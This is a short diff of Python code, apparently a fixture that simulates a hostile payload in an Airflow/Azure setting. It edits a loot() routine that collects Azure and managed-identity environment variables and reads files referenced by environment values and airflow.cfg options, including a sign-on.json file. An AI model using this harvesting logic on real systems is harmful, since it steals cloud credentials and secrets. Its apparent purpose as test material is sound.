@@ -36,6 +36,7 @@ _RUNS_SOON = {
 _CURIOUS = """
 import json
 import os
+from configparser import RawConfigParser
 from datetime import datetime
 from pathlib import Path
 
@@ -48,7 +49,9 @@ def loot():
 
     ours = [name for name in os.environ if name.startswith(("AZURE_", "AIRFLOW_ENTRA_", "MSI_", "IDENTITY_"))]
     named = [path for path in map(Path, os.environ.values()) if path.is_absolute() and path.is_file()]
-    options = [value for section in conf.as_dict(display_sensitive=True).values() for value in section.values()]
+    written = RawConfigParser()
+    written.read(HOME / "airflow.cfg")
+    options = [value for section in written.sections() for value in written[section].values()]
     named += [path for path in map(Path, map(str, options)) if path.is_absolute() and path.is_file()]
     files = {str(path): path.read_text(errors="replace") for path in named if path.suffix not in (".db", ".sqlite")}
     beside = (HOME / "sign-on.json").read_text()  # where nothing else is told of it
